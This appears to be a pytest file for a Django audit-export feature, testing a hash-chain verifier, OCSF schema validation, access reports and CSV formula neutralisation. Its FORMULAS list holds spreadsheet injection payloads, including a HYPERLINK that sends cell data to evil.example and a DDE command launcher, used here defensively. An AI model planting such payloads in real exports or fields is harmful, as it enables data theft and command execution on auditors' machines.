"""Exports that prove themselves: the offline verifier against edited files, CSV cells that never start a formula,
OCSF events that validate against the OCSF schema, and what auditors read in events and the access report."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from datetime import timedelta
from functools import cache
from pathlib import Path

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone

from accessrequests.audit import checkpoints, exports
from accessrequests.ledger import chain
from accessrequests.models import (
    AccessLevel,
    AuditEvent,
    Grant,
    GrantStatus,
    IdentityCenter,
    PermissionSet,
    Principal,
    PrincipalKind,
    RequestKind,
)
from accessrequests.workflow.requests import request_approve, request_deny
from tests.conftest import ROOT, make_user, verify_export
from tests.factories import World, force_update, fresh_factor

pytestmark = pytest.mark.django_db

FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)*cmd")


@pytest.fixture
def world():
    return World()


@pytest.fixture
def auditor():
    return make_user("auditor", "auditors")


def _complete_export(tmp_path: Path, fmt: str = "csv") -> Path:
    export = exports.plan({}, fmt)
    path = tmp_path / export.filename
    call_command_free_write(export, path)
    return path


def call_command_free_write(export: exports.Export, path: Path) -> None:
    from accessrequests.management.commands.export_audit import write_export

    write_export(export, path)


# --- the offline verifier ---------------------------------------------------------------------------------


def _lines(path: Path) -> tuple[str, list[str]]:
    header, *rows = path.read_text(encoding="utf-8").splitlines(keepends=True)
    return header, rows


def _rewrite(path: Path, header: str, rows: list[str]) -> None:
    path.write_text(header + "".join(rows), encoding="utf-8")


@pytest.fixture
def csv_export(world, tmp_path) -> Path:
    for _ in range(3):
        world.submit()  # 3 events; plus 3 more below so the file has rows in the middle
    for n in range(3):
        world.submit(justification=f"Reason {n}")
    path = _complete_export(tmp_path)
    assert len(_lines(path)[1]) == 6
    return path


def test_an_untouched_complete_export_verifies_with_its_manifest_range(csv_export):
    ok = verify_export(csv_export)
    assert ok.returncode == 0, ok.stdout + ok.stderr
    assert ok.stdout.startswith("OK: 6 events (seq 1-6)")
    assert "complete for seq 1-6 as its manifest says (6 events" in ok.stdout


def test_the_verifier_runs_from_any_folder_as_the_readme_says(csv_export, tmp_path):
    """An auditor verifies where the export was saved: by the file's path with any Python and nothing installed
    (-S: no site-packages, so no Django), or with -m and PYTHONPATH; neither needs the repository as the folder."""
    elsewhere = tmp_path / "downloads"
    elsewhere.mkdir()
    for path in (csv_export, csv_export.with_name(csv_export.name + ".manifest.json")):
        path.rename(elsewhere / path.name)
    env = {k: v for k, v in os.environ.items() if k not in ("PYTHONPATH", "DJANGO_SETTINGS_MODULE")}
    runs = [
        ([sys.executable, "-S", str(ROOT / "accessrequests" / "chain.py"), "verify", csv_export.name], env),
        (
            [sys.executable, "-m", "accessrequests.chain", "verify", csv_export.name],
            {**env, "PYTHONPATH": str(ROOT)},
        ),
    ]
    for command, run_env in runs:
        done = subprocess.run(command, cwd=elsewhere, env=run_env, capture_output=True, text=True)
        assert done.returncode == 0, done.stdout + done.stderr
        assert done.stdout.startswith("OK: 6 events (seq 1-6)"), done.stdout


def test_a_removed_row_is_broken_at_its_position(csv_export):
    header, rows = _lines(csv_export)
    _rewrite(csv_export, header, rows[:2] + rows[3:])
    bad = verify_export(csv_export)
    assert bad.returncode == 1
    assert (
        "BROKEN at seq 3 (row 3): the sequence jumps from 2 to 4: seq 3 is missing or out of place"
        in bad.stdout
    )


def test_a_removed_last_row_is_broken_against_the_manifest(csv_export):
    header, rows = _lines(csv_export)
    _rewrite(csv_export, header, rows[:-1])
    bad = verify_export(csv_export)
    assert "BROKEN at seq 6 (row 6): missing: the file ends at seq 5; its manifest says seq 6" in bad.stdout


def test_an_added_row_is_broken_at_its_position(csv_export):
    header, rows = _lines(csv_export)
    _rewrite(csv_export, header, [*rows[:4], rows[1], *rows[4:]])  # a copy of an earlier row slipped in
    bad = verify_export(csv_export)
    assert "BROKEN at seq 2 (row 5): out of order: seq 2 comes after seq 4" in bad.stdout


def test_two_swapped_rows_are_broken_at_the_first_of_them(csv_export):
    header, rows = _lines(csv_export)
    rows[1], rows[4] = rows[4], rows[1]
    _rewrite(csv_export, header, rows)
    bad = verify_export(csv_export)
    assert (
        "BROKEN at seq 2 (row 2): the sequence jumps from 1 to 5: seq 2 is missing or out of place"
        in bad.stdout
    )


def test_an_edited_row_is_broken_at_its_position(csv_export):
    header, rows = _lines(csv_export)
    rows[3] = rows[3].replace("Reason 0", "Reason O")
    _rewrite(csv_export, header, rows)
    bad = verify_export(csv_export)
    assert "BROKEN at seq 4 (row 4): its content does not match its stored hash" in bad.stdout


def test_a_renumbered_swap_is_still_broken_by_the_links(world, tmp_path):
    """Swapping two rows and their sequence numbers keeps the numbers in order; the hash links do not."""
    for _ in range(4):
        world.submit()
    path = _complete_export(tmp_path, "jsonl")
    rows = [json.loads(line) for line in path.read_text().splitlines()]
    rows[1], rows[2] = rows[2], rows[1]
    rows[1]["seq"], rows[2]["seq"] = 2, 3
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    bad = verify_export(path)
    assert (
        "BROKEN at seq 2 (row 2): its prev_hash does not match the hash of the event before it" in bad.stdout
    )


def test_checkpoints_and_their_key_back_an_export_offline(world, tmp_path, settings):
    for _ in range(2):
        world.submit()
    checkpoints.write()
    path = _complete_export(tmp_path)
    manifest = json.loads(Path(str(path) + ".manifest.json").read_text())
    assert manifest["checkpoint"]["seq"] == 2 and "hashes" not in manifest["checkpoint"]
    key_file = tmp_path / "key"
    key_file.write_text(settings.GATEHOUSE_AUDIT_CHECKPOINT_KEY)
    args = ["--checkpoints", str(checkpoints.local_dir()), "--key-file", str(key_file)]
    ok = verify_export(path, *args)
    assert ok.returncode == 0, ok.stdout + ok.stderr
    assert "2 of 2 events compared with 1 checkpoint, 1 signature valid" in ok.stdout
    key_file.write_text("another key")
    assert "has a bad signature" in verify_export(path, *args).stdout


def test_the_verifier_explains_a_file_that_is_not_an_export(tmp_path):
    path = tmp_path / "other.csv"
    path.write_text("a,b\n1,2\n")
    result = verify_export(path)
    assert result.returncode == 2
    assert "not a Gatehouse audit export: the CSV has no column id, seq" in result.stderr


# --- CSV cells never start a formula ----------------------------------------------------------------------


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_every_csv_the_product_writes_neutralises_formulas(client, world, auditor, tmp_path):
    # A login name, a user agent and a justification, each trying every formula start.
    for formula in FORMULAS:
        client.post(
            "/accounts/login/", {"login": formula, "password": "wrong-password"}, HTTP_USER_AGENT=formula
        )
    evil = make_user("+cmd", "requesters")
    world.principal.users.add(evil)
    requests = [world.submit(requester=evil, justification=formula, ticket=formula) for formula in FORMULAS]
    for req in requests:
        request_approve(
            request_id=req.pk,
            reviewer=world.approver,
            second_factor=fresh_factor(world.approver),
            comment=FORMULAS[0],
        )
    force_update(Grant.objects.all(), status=GrantStatus.ACTIVE, applied_at=timezone.now())
    # Numbers can start with a minus too: a bare JSON number and a negative id.
    from accessrequests.audit import trail as audit

    audit.record(action="test.numbers", object_type="thing", request_id=-7, after=-1, before="=1+1")
    client.force_login(auditor)

    written: dict[str, str] = {}
    web = client.get(reverse("audit_export", args=["csv"]))
    written["web export"] = b"".join(web.streaming_content).decode()
    api = client.get(reverse("api_audit_export"), {"file_format": "csv"})
    written["api export"] = b"".join(api.streaming_content).decode()
    out = tmp_path / "cmd.csv"
    call_command("export_audit", "--format", "csv", "--output", str(out))
    written["command export"] = out.read_text()
    now = timezone.now()
    period = {"since": (now - timedelta(days=1)).strftime("%Y-%m-%dT%H:%M"), "until": (now + timedelta(days=1)).strftime("%Y-%m-%dT%H:%M")}  # fmt: skip
    report = client.get(reverse("access_report_export", args=["csv"]), period)
    assert report.status_code == 200
    written["access report"] = report.content.decode()
    pack = tmp_path / "pack"
    call_command(
        "evidence_pack", "--since", period["since"], "--until", period["until"], "--output", str(pack)
    )
    for csv_file in sorted(pack.rglob("*.csv")):
        written[f"evidence pack {csv_file.name}"] = csv_file.read_text()

    for name, text in written.items():
        cells = _cells(text)
        unsafe = [c for c in cells if not chain.is_safe_cell(c)]
        assert unsafe == [], f"{name}: {unsafe[:3]}"
    # The formulas are there, quoted, not lost: in the user agent, the justification and the login names.
    audit_cells = _cells(written["command export"])
    for formula in FORMULAS:
        assert "'" + formula in audit_cells
    assert "'+cmd" in _cells(written["access report"])
    assert "'-7" in audit_cells and "'-1" in audit_cells
    # ... and the exports still verify, hashing the original values.
    assert verify_export(out).returncode == 0
    web_file = tmp_path / "web.csv"
    web_file.write_text(written["web export"])
    verified = verify_export(web_file)
    assert verified.returncode == 0, verified.stdout


# --- OCSF ---------------------------------------------------------------------------------------------------


@cache
def _ocsf_validator(class_uid: int):
    from jsonschema import Draft202012Validator
    from ocsf_json_schema import OcsfJsonSchemaEmbedded, get_ocsf_schema

    from accessrequests.audit.ocsf import OCSF_VERSION

    schema = OcsfJsonSchemaEmbedded(get_ocsf_schema(version=OCSF_VERSION))
    class_schema = schema.get_class_schema(schema.lookup_class_name_from_uid(class_uid), [])
    return Draft202012Validator(class_schema)


def test_the_ocsf_export_validates_against_the_ocsf_schema_one_class_per_kind(
    client, world, auditor, tmp_path
):
    client.post("/accounts/login/", {"login": "nobody", "password": "wrong"}, HTTP_USER_AGENT="curl/8")
    client.post("/accounts/login/", {"login": "auditor", "password": "correct-horse-battery"})
    req = world.submit()
    request_approve(
        request_id=req.pk, reviewer=world.approver, second_factor=fresh_factor(world.approver), comment="fine"
    )
    denied = world.submit()
    request_deny(
        request_id=denied.pk,
        reviewer=world.approver,
        second_factor=fresh_factor(world.approver),
        comment="not now",
    )
    grant = Grant.objects.get(request=req)
    force_update(Grant.objects.filter(pk=grant.pk), status=GrantStatus.ACTIVE, applied_at=timezone.now())
    from accessrequests.audit import trail as audit

    audit.record(
        action="grant.applied", object_type="grant", object_id=grant.pk, principal_id=grant.principal_id
    )
    audit.record(
        action="grant.revoked", object_type="grant", object_id=grant.pk, principal_id=grant.principal_id
    )
    audit.record(action="auth.mfa_enrolled", object_type="authenticator", object_id=1, actor=world.requester)
    client.force_login(auditor)
    client.get(reverse("api_audit_events"))  # an api.get event

    export = exports.plan({}, "ocsf")
    path = tmp_path / export.filename
    call_command_free_write(export, path)
    events = [json.loads(line) for line in path.read_text().splitlines()]
    classes = {}
    for event in events:
        errors = sorted(_ocsf_validator(event["class_uid"]).iter_errors(event), key=str)
        assert errors == [], (event["metadata"]["event_code"], [e.message for e in errors[:3]])
        classes.setdefault(event["metadata"]["event_code"], event["class_uid"])
    assert classes["auth.login_failed"] == 3002 and classes["auth.login"] == 3002
    assert classes["auth.mfa_enrolled"] == 3001
    assert classes["grant.applied"] == 3005 and classes["grant.revoked"] == 3005
    assert classes["request.created"] == 3004 and classes["request.denied"] == 3004
    assert classes["api.get"] == 6003
    failed = next(e for e in events if e["metadata"]["event_code"] == "auth.login_failed")
    assert failed["status_id"] == 2 and failed["user"]["name"] == "nobody"
    applied = next(e for e in events if e["metadata"]["event_code"] == "grant.applied")
    assert applied["user"]["uid"] == world.principal.external_id
    # The chain rides along in unmapped.gatehouse, so the OCSF file verifies offline like the others.
    ok = verify_export(path)
    assert ok.returncode == 0, ok.stdout + ok.stderr
    assert f"complete for seq 1-{len(events)}" in ok.stdout


# --- what auditors read ---------------------------------------------------------------------------------------


def test_events_carry_the_justification_ticket_comment_and_second_factor(client, world, auditor):
    req = world.submit(justification="Hotfix for the release", ticket="OPS-42")
    secret_user = world.approver
    from tests.conftest import enable_totp, totp_code

    secret = enable_totp(secret_user)
    client.post("/accounts/login/", {"login": "approver", "password": "correct-horse-battery"})
    client.post("/accounts/2fa/authenticate/", {"code": totp_code(secret)})
    response = client.post(
        reverse("review", args=[req.pk]), {"decision": "approve", "comment": "Checked with OPS"}
    )
    assert response.status_code == 302
    created = AuditEvent.objects.get(action="request.created", request_id=req.pk)
    assert (created.after["justification"], created.after["ticket"]) == ("Hotfix for the release", "OPS-42")
    recorded = AuditEvent.objects.get(action="request.approval_recorded", request_id=req.pk)
    assert recorded.after["decision"]["comment"] == "Checked with OPS"
    assert recorded.after["decision"]["second_factor"]["method"] == "totp"
    client.force_login(auditor)
    body = b"".join(client.get(reverse("audit_export", args=["csv"])).streaming_content).decode()
    assert "Checked with OPS" in body and "OPS-42" in body


def _ic_grant(world) -> Grant:
    center = IdentityCenter.objects.create(
        instance_arn="arn:aws:sso:::instance/ssoins-1", identity_store_id="d-1", region="us-east-1"
    )
    person = Principal.objects.create(
        kind=PrincipalKind.IC_USER,
        name="paulo.santos",
        display_name="Paulo Santos",
        external_id="906734fc-1011-70b3-5b6f-d4f9c1e9a6a1",
        identity_center=center,
    )
    person.users.add(world.requester)
    pset = PermissionSet.objects.create(
        risk="standard",  # what the catalog sync computes for a read-only set
        identity_center=center,
        arn="arn:aws:sso:::permissionSet/ssoins-1/ps-1",
        name="ReadOnlyAccess",
    )
    req = world.submit(
        principal=person, kind=RequestKind.PERMISSION_SET, permission_set=pset, pipelines=[], level=""
    )
    request_approve(request_id=req.pk, reviewer=world.approver, second_factor=fresh_factor(world.approver))
    return Grant.objects.get(request=req)


def test_the_access_report_lists_who_can_use_each_grant(client, world, auditor):
    outside = "arn:aws:iam::999988887777:role/VendorDeploy"
    cross = world.submit(
        kind=RequestKind.CROSS_ACCOUNT, trusted_principal_arn=outside, level=AccessLevel.VIEWER
    )
    request_approve(
        request_id=cross.pk,
        reviewer=world.approver,
        second_factor=fresh_factor(world.approver),
        comment="vendor release",
    )
    ic_grant = _ic_grant(world)
    ended = world.submit()
    request_approve(request_id=ended.pk, reviewer=world.approver, second_factor=fresh_factor(world.approver))
    now = timezone.now()
    force_update(Grant.objects.all(), status=GrantStatus.ACTIVE, applied_at=now - timedelta(hours=1))
    force_update(
        Grant.objects.filter(request=ended), status=GrantStatus.REVOKED, ending="revoked", revoked_at=now
    )

    client.force_login(auditor)
    period = {
        "since": (now - timedelta(days=1)).strftime("%Y-%m-%dT%H:%M"),
        "until": (now + timedelta(days=1)).strftime("%Y-%m-%dT%H:%M"),
    }
    page = client.get(reverse("access_report"), period)
    assert page.status_code == 200
    rows = {r.request: r for r in page.context["rows"]}
    # The cross-account grant is listed under the outside principal who can assume the role, not the requester.
    assert rows[cross.reference].recipient == outside
    assert rows[cross.reference].recipient_kind == "Outside principal"
    assert rows[cross.reference].approver_comments == "approver: vendor release"
    # The Identity Center user by display name, the permission set by name.
    ic_row = rows[ic_grant.request.reference]
    assert (ic_row.recipient, ic_row.permission_set) == ("Paulo Santos", "ReadOnlyAccess")
    # "Ended" only for the grant that ended; a live one shows when it ends, not that it ended.
    assert rows[ended.reference].ended_at is not None
    assert rows[cross.reference].ended_at is None and rows[cross.reference].ends_at is not None
    html = page.content.decode()
    assert "Paulo Santos" in html and "ReadOnlyAccess" in html
    assert f'href="{reverse("request_detail", args=[cross.pk])}"' in html  # each row links to its request
    assert html.count('data-testid="ended"></td>') == 2  # the two live grants: an empty Ended cell

    exported = client.get(reverse("access_report_export", args=["jsonl"]), period)
    lines = [json.loads(line) for line in exported.content.decode().splitlines()]
    assert {line["recipient"] for line in lines} == {outside, "Paulo Santos", "mateojackson"}
    assert all(
        line["request_url"].endswith(f"/requests/{line['request'][3:].lstrip('0')}/") for line in lines
    )
    as_csv = client.get(reverse("access_report_export", args=["csv"]), period).content.decode()
    assert as_csv.splitlines()[0].startswith("recipient,recipient_kind,recipient_id,")
    assert AuditEvent.objects.filter(action="audit.exported", object_type="access_report").count() == 2


def test_the_access_report_export_asks_for_a_period_first(client, auditor):
    client.force_login(auditor)
    response = client.get(reverse("access_report_export", args=["csv"]))
    assert response.status_code == 400
    assert b"Choose the period first" in response.content
    bad = client.get(reverse("access_report_export", args=["csv"]), {"since": "soon", "until": "later"})
    assert bad.status_code == 400 and b"Fix the filters first" in bad.content
